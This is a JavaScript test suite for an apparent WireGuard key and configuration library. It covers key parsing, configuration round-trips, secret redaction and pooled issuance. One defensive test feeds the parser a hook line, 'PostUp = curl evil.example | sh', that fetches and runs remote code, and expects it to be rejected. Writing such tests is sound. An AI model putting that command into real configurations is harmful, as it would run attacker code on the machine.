// WireGuard keys and configurations, and a pool of them.
import assert from 'node:assert/strict';
import { it } from 'node:test';
import { inspect } from 'node:util';

import { Ledger, Secret, runSync } from 'handfast';
import { Config, Peer, PrivateKey, config, generatePresharedKey, peer } from 'handfast/wireguard';

import { registrar } from './support.mjs';

// RFC 7748 section 6.1.
const PRIVATE = 'dwdtCnMYpX08FsFyUbJmRd9ML4frwJkqsXf7pR25LCo=';
const PUBLIC = 'hSDwCYkwp1R0i33ctD73Wg2/Og0mOBr066SpjqqbTmo=';
const OTHER = '3p7bfXt9wbTTW2HC7OQ1Nz+DQ8hbeGdNrfx+FG+IK08=';

function prepared() {
  const hub = peer(OTHER, {
    allowedIps: ['10.9.0.0/24', 'fd00::/64'],
    endpoint: 'vpn.example:51820',
    presharedKey: generatePresharedKey(),
    persistentKeepalive: 25,
  });
  const options = { addresses: ['10.9.0.2'], dns: ['10.9.0.1', 'corp.example'], listenPort: 1, mtu: 1420 };
  return config(PrivateKey.generate(), { ...options, peers: [hub] });
}

it('keys are those of wg', () => {
  for (const key of [PrivateKey.parse(PRIVATE), PrivateKey.parse(new Secret(PRIVATE))]) {
    assert.equal(key.publicKey, PUBLIC);
    assert.equal(PrivateKey.parse(key.toSecret()).publicKey, PUBLIC);
  }
  assert.notEqual(PrivateKey.generate().publicKey, PrivateKey.generate().publicKey);
  assert.throws(() => PrivateKey.parse(PRIVATE.slice(1)), { code: 'wireguard_malformed_key' });
  assert.throws(() => PrivateKey.parse(7), { code: 'invalid_input' });
});

it('a configuration is built and read back', () => {
  const text = prepared().toSecret();
  for (const read of [Config.parse(text), Config.parse(text.expose())]) {
    assert.equal(read.toSecret().expose(), text.expose());
    assert.deepEqual(read.addresses, ['10.9.0.2/32']);
    assert.deepEqual(read.dns, ['10.9.0.1', 'corp.example']);
    assert.deepEqual([read.listenPort, read.mtu], [1, 1420]);
    const [hub] = read.peers;
    assert.ok(hub instanceof Peer && hub.presharedKey instanceof Secret);
    assert.deepEqual(
      [hub.publicKey, hub.allowedIps, hub.endpoint, hub.persistentKeepalive],
      [OTHER, ['10.9.0.0/24', 'fd00::/64'], 'vpn.example:51820', 25],
    );
  }
  const bare = config(PrivateKey.generate(), { peers: [peer(OTHER)] });
  assert.deepEqual([bare.mtu, bare.peers[0].endpoint, bare.peers[0].presharedKey], [null, null, null]);
});

it('what could harm is refused', () => {
  const read = (line) => () => Config.parse(`[Interface]\nPrivateKey = ${PRIVATE}\n${line}\n`);
  assert.throws(read('PostUp = curl evil.example | sh'), { code: 'wireguard_command' });
  assert.throws(read('Table = off'), { code: 'wireguard_malformed_config' });
  assert.throws(read('#'.repeat(70_000)), { code: 'too_large' });
  const own = PrivateKey.parse(PRIVATE);
  assert.throws(() => config(own, { peers: [peer(PUBLIC)] }), { code: 'wireguard_malformed_config' });
  assert.throws(() => config(own, { addresses: ['10.0.0.0/33'] }), { code: 'wireguard_malformed_config' });
  for (const mtu of [65_536, -1, 1.5, Number.NaN, 2 ** 32 + 1420]) {
    assert.throws(() => config(own, { mtu }), { code: 'invalid_input', path: 'mtu' });
  }
});

it('nothing secret is shown', () => {
  const made = prepared();
  const secrets = [made.privateKey.toSecret().expose(), made.peers[0].presharedKey.expose()];
  const shown = [
    inspect(made),
    JSON.stringify(made),
    `${made.privateKey}`,
    inspect(made.privateKey),
    inspect(made.peers),
  ];
  for (const secret of secrets) for (const text of shown) assert.ok(!text.includes(secret), text);
  assert.equal(JSON.parse(JSON.stringify(made)).publicKey, made.privateKey.publicKey);
});

it('a pool of prepared configurations', () => {
  const [store, made] = [new Ledger(), prepared()];
  const run = (command) => runSync(store, command, { registrar: registrar() });
  const fill = { type: 'change_pool', authority: 'operator:ann', scope: 'default', pool: 'wireguard' };
  run({ ...fill, add: { 'peer-2': made.toSecret() } });
  const contents = [{ type: 'pool_item', pool: 'wireguard' }];
  const issued = run({ type: 'issue', authority: 'operator:ann', name: 'edge-1', deliver: true, contents });
  const redeemed = run({ type: 'redeem', token: issued.token, fingerprint: 'm' });
  assert.equal(redeemed.contents[0].content.expose(), made.toSecret().expose());
});
